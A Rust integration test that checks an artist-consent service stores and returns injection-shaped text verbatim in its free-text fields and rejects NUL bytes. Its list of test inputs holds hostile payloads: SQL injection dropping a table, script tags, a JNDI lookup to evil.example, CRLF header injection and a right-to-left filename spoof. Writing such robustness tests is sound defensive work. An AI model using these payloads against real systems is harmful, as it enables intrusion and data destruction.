//! Injection-shaped strings in every free-text field (artist display name,
//! work title, fingerprint values, attribution credit, builder name) are
//! stored and returned verbatim, as data, on both backends: SQL, markup,
//! JSON-breaking quotes, control characters, right-to-left marks. U+0000,
//! which PostgreSQL text cannot hold, is refused everywhere alike.

use serde_json::json;

use crate::helpers::*;

crate::both_backends!(injection_shaped_text_is_data);

const NASTY: &[&str] = &[
    "Robert'); DROP TABLE documents;--",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\" , \"consent\": \"opt-in\", \"x\": \"",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    "line\u{1}break\r\nheader: injected\u{7f}",
    "\u{202e}gnp.exe \u{feff}",
];

async fn injection_shaped_text_is_data(app: TestApp) {
    let before = app.counts().await;
    for (i, text) in NASTY.iter().enumerate() {
        // Display names are trimmed of surrounding white space on input;
        // these strings carry their hostile bytes inside.
        let key = consentry::crypto::SecretKey::generate();
        let name = format!("A{i} {text} Z");
        let id = app.register_artist(&key, &name).await;
        let v = app.get(&format!("/v1/artists/{id}")).await;
        assert_eq!(v.body["display_name"], name.as_str(), "{}", v.text);
        let token = app.login(&key).await;
        let w = work(i as u64);
        let mut p = statement_payload(&key, &[w], json!("opt-in"), ago(10));
        p["works"][0]["title"] = json!(text);
        p["works"][0]["fingerprints"] = json!([{ "algorithm": "pdq", "value": text }]);
        p["terms"] = json!([{ "kind": "attribution", "credit": format!("C {text} D") }]);
        let r = app.submit(&token, &[sign_statement(&key, &p)]).await;
        r.assert_status(201);
        let work_view = app.work(&w).await;
        let c = &work_view.body["claimants"][0];
        assert_eq!(c["display_name"], name.as_str());
        assert_eq!(c["terms"][0]["credit"], format!("C {text} D"));
        let doc = app
            .get(&format!(
                "/v1/documents/{}",
                r.body["accepted"][0]["id"].as_str().expect("id")
            ))
            .await;
        doc.assert_status(200);
        let env: consentry::crypto::Envelope =
            serde_json::from_value(doc.body["envelope"].clone()).expect("envelope");
        let payload: serde_json::Value = serde_json::from_slice(
            &consentry::crypto::dsse::decode_base64(&env.payload).expect("base64"),
        )
        .expect("payload");
        assert_eq!(payload["works"][0]["title"], *text);
        assert_eq!(payload["works"][0]["fingerprints"][0]["value"], *text);
    }
    // Builder names, through the admin.
    let admin = app.login(&app.admin).await;
    for text in NASTY {
        let name = format!("Lab {text}");
        let r = app
            .post(
                "/v1/builders",
                &json!({ "name": name, "key": consentry::crypto::SecretKey::generate().public_key().to_string() }),
                Some(&admin),
            )
            .await;
        r.assert_status(201);
        assert_eq!(r.body["name"], name.as_str());
    }
    let after = app.counts().await;
    assert_eq!(after.artists, before.artists + NASTY.len() as i64);

    // U+0000: refused in every free-text field, nothing stored.
    let nul = "a\u{0}b";
    let key = consentry::crypto::SecretKey::generate();
    app.post("/v1/artists", &json!(artist_envelope(&key, nul)), None)
        .await
        .assert_problem(422, "invalid-payload");
    let ana = app.artist("Ana").await;
    let counts = app.counts().await;
    for (field, value) in [("title", json!(nul)), ("credit", json!(nul))] {
        let mut p = statement_payload(&ana.key, &[work(99)], json!("opt-in"), ago(10));
        if field == "title" {
            p["works"][0]["title"] = value;
        } else {
            p["terms"] = json!([{ "kind": "attribution", "credit": value }]);
        }
        app.submit(&ana.token, &[sign_statement(&ana.key, &p)])
            .await
            .assert_problem(422, "invalid-payload");
    }
    app.post(
        "/v1/builders",
        &json!({ "name": nul, "key": consentry::crypto::SecretKey::generate().public_key().to_string() }),
        Some(&admin),
    )
    .await
    .assert_problem(422, "invalid-payload");
    assert_eq!(app.counts().await, counts);
    app.assert_log_verifies().await;
}
